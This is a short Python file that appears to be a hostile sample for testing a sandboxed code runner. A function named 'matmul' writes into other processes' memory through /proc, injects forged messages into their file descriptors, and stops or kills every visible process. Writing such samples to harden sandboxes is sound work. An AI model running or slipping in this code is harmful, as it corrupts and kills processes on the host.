# attacks: 1.4
# damage: goes after the warm process the children are forked from (writes into its memory,
#   its environment and its descriptors, signals every process it can see), then ends the
#   child, so that the children forked after it run the attacker's code or do not start
# needs: sandbox
import os
import signal


def matmul(a, b):
    me = os.readlink("/proc/self")
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if pid == me:
            continue
        try:
            with open(f"/proc/{pid}/mem", "r+b") as memory:
                memory.seek(0x400000)
                memory.write(b"\xcc" * 4096)
        except (OSError, ValueError):
            pass
        try:
            for descriptor in os.listdir(f"/proc/{pid}/fd"):
                with open(f"/proc/{pid}/fd/{descriptor}", "wb") as file:
                    file.write(b'{"op": "fork"}')
        except OSError:
            pass
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(int(pid), number)
            except OSError:
                pass
    os._exit(0)
